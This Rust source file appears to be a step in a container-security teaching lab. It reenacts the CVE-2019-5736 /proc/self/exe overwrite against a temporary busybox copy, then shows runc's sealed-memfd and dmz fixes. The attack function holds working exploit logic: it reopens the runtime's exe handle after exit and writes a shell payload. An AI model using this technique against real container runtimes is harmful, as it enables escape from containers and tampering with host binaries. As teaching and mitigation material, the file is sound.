//! Step 7: the `/proc/self/exe` attack (CVE-2019-5736) and runc's fix. A runtime that enters a
//! container runs, for a moment, as a process the container can see. Its `/proc/PID/exe` is a
//! handle on the runtime's file *on the host*. Writing through it fails while the runtime
//! runs (`ETXTBSY`) — but an `O_PATH` handle can be kept, and reopened for writing through
//! `/proc/self/fd/N` once the runtime has exited.
//!
//! We play it against a *copy* of busybox standing in for the runtime (never a real host
//! binary): first the copy itself runs, and the attack overwrites it; then a sealed memfd copy
//! of it runs, and the attacker's handle leads to that sealed copy, which nobody can write.
//!
//! Run:  cargo run -p confinement --bin 07-proc-self-exe
//!       cargo run -p confinement --bin 07-proc-self-exe -- --reexec   (runc's old way)
//!       cargo run -p confinement --bin 07-proc-self-exe -- --dmz      (the capstone's way)
//! Look for: `plain: exe=…/runtime … write=ok changed=true`, then
//! `sealed: exe=/memfd:runtime (deleted) … write=EPERM changed=false`; with `--reexec`, the
//! step re-executes itself from a sealed copy of its own binary, as an engine would, and shows
//! `re-executed: exe=/memfd:07-proc-self-exe (deleted)`. With `--dmz`, a container whose
//! command is a `#!/proc/self/exe` script: without a dmz, `inside: this step's own binary
//! runs as pid 1 of the container` and `without dmz: exit=42`; through the sealed dmz
//! (`src/dmz.rs`), `with dmz: exit=126` and no `inside:` line.
//! Read: proc(5) /proc/PID/exe, memfd_create(2), fcntl(2) "File Sealing", and `src/sealed.rs`.

use confinement::sealed::{SealedCopy, sha256_of};
use nix::fcntl::{OFlag, open};
use nix::sys::stat::Mode;
use std::io::Write;
use std::os::fd::AsRawFd;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

// ANCHOR: attack
/// What a process in the container does: while the runtime process `runtime` runs, keep an
/// `O_PATH` handle on its `/proc/PID/exe`; once it has exited, reopen the handle for writing
/// and write a payload. Returns where the handle led, and the outcome of the write.
fn attack(mut runtime: Child) -> anyhow::Result<(String, String)> {
    let exe = format!("/proc/{}/exe", runtime.id());
    let led_to = std::fs::read_link(&exe)?.display().to_string();
    let handle = open(exe.as_str(), OFlag::O_PATH, Mode::empty())?;
    runtime.kill()?;
    runtime.wait()?; // the runtime is gone: its file is no longer "busy"
    let reopen = format!("/proc/self/fd/{}", handle.as_raw_fd());
    // The kernel lets go of the file a moment after the process is reaped: like a real
    // attacker, try again while it is still "busy" (ETXTBSY), up to a deadline.
    let deadline = Instant::now() + Duration::from_secs(5);
    let written = loop {
        let attempt = std::fs::OpenOptions::new()
            .write(true)
            .open(&reopen)
            .and_then(|mut f| f.write_all(b"#!/bin/sh\necho pwned\n"));
        match attempt {
            Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) && Instant::now() < deadline => {
                std::thread::yield_now()
            }
            other => break other,
        }
    };
    let outcome = match written {
        Ok(()) => "ok".to_string(),
        Err(e) => format!("{:?}", nix::Error::from_raw(e.raw_os_error().unwrap_or(0))),
    };
    Ok((led_to, outcome))
}
// ANCHOR_END: attack

/// Starts the "runtime" at `path` as a long-running process (busybox `sleep`), and returns
/// once the kernel shows it running that program: spawn(2)-style starts can return a moment
/// before `/proc/PID/exe` switches from our binary to the new one.
fn start(path: &str, name: &Path) -> anyhow::Result<Child> {
    let mut command = Command::new(path);
    command.arg0(name).arg("60").stdin(Stdio::null());
    let child = command.spawn()?;
    let me = std::fs::read_link("/proc/self/exe")?;
    let deadline = Instant::now() + Duration::from_secs(5);
    while std::fs::read_link(format!("/proc/{}/exe", child.id()))? == me {
        anyhow::ensure!(Instant::now() < deadline, "the runtime never started");
        std::thread::yield_now();
    }
    Ok(child)
}

use std::os::unix::process::CommandExt;

fn main() -> anyhow::Result<()> {
    if std::env::args().nth(1).as_deref() == Some("/evil") {
        // The kernel ran `#!/proc/self/exe` for the container's /evil: that is us, inside.
        println!(
            "inside: this step's own binary runs as pid {}",
            std::process::id()
        );
        std::process::exit(42);
    }
    if std::env::args().nth(1).as_deref() == Some("--dmz") {
        return dmz::show();
    }
    if std::env::args().nth(1).as_deref() == Some("--reexec") {
        // What an engine does first in every command that enters a container.
        // ANCHOR: reexec
        confinement::sealed::reexec_sealed()?;
        // ANCHOR_END: reexec
        let exe = std::fs::read_link("/proc/self/exe")?;
        println!("re-executed: exe={}", exe.display());
        return Ok(());
    }
    let dir = tempfile::Builder::new().prefix("lab07-exe-").tempdir()?;
    let runtime = dir.path().join("runtime");
    std::fs::copy(namespaces::rootfs::BUSYBOX, &runtime)?;
    let before = sha256_of(&runtime)?;
    println!(
        "the stand-in runtime: {} sha256={}",
        runtime.display(),
        &before[..16]
    );
    let name = Path::new("sleep");

    let (led_to, write) = attack(start(&runtime.to_string_lossy(), name)?)?;
    let after = sha256_of(&runtime)?;
    println!(
        "plain: exe={led_to} write={write} changed={}",
        before != after
    );

    std::fs::copy(namespaces::rootfs::BUSYBOX, &runtime)?; // undo the damage
    // ANCHOR: fix
    let sealed = SealedCopy::of(&runtime)?;
    let (led_to, write) = attack(start(&sealed.exec_path(), name)?)?;
    // ANCHOR_END: fix
    let after = sha256_of(&runtime)?;
    println!(
        "sealed: exe={led_to} seals={:?} write={write} changed={}",
        sealed.seals()?,
        before != after
    );
    Ok(())
}

mod dmz {
    use namespaces::container::{ContainerSpec, create_with};
    use namespaces::hooks::{HookResult, Hooks};
    use nix::mount::{MsFlags, mount};
    use std::os::fd::{AsFd, BorrowedFd};
    use std::os::unix::fs::PermissionsExt;
    use std::path::Path;

    /// Lesson 01's container, with the host's shared libraries bound in read-only, so that
    /// this (dynamically linked) step could run inside if the kernel were made to run it.
    struct Container {
        dmz: Option<&'static confinement::sealed::SealedCopy>,
    }

    impl Hooks for Container {
        fn before_pivot(&self, root: &Path) -> HookResult {
            for dir in ["lib", "lib64"]
                .into_iter()
                .filter(|d| Path::new("/").join(d).is_dir())
            {
                let target = namespaces::mounts::mount_point(root, dir)?;
                let source = Path::new("/").join(dir);
                mount(
                    Some(&source),
                    &target,
                    None::<&str>,
                    MsFlags::MS_BIND | MsFlags::MS_REC,
                    None::<&str>,
                )?;
            }
            Ok(())
        }

        // ANCHOR: exec_through
        fn exec_through(&self) -> Option<BorrowedFd<'_>> {
            self.dmz.map(|copy| copy.file().as_fd())
        }
        // ANCHOR_END: exec_through
    }

    /// Runs a container whose command is a `#!/proc/self/exe` script, without and with a dmz.
    pub fn show() -> anyhow::Result<()> {
        let dir = tempfile::Builder::new().prefix("lab07-dmz-").tempdir()?;
        let root = dir.path().join("root");
        namespaces::rootfs::build_busybox_rootfs(&root)?;
        let evil = root.join("evil");
        std::fs::write(&evil, "#!/proc/self/exe\n")?;
        std::fs::set_permissions(&evil, std::fs::Permissions::from_mode(0o755))?;
        let spec = ContainerSpec::new(&root, vec!["/evil".into()]);
        let plain = create_with(&spec, &Container { dmz: None })?
            .start()?
            .wait()?;
        println!("without dmz: exit={plain}");
        let sealed = Some(confinement::dmz::sealed()?);
        let through_dmz = create_with(&spec, &Container { dmz: sealed })?
            .start()?
            .wait()?;
        println!("with dmz: exit={through_dmz}");
        Ok(())
    }
}
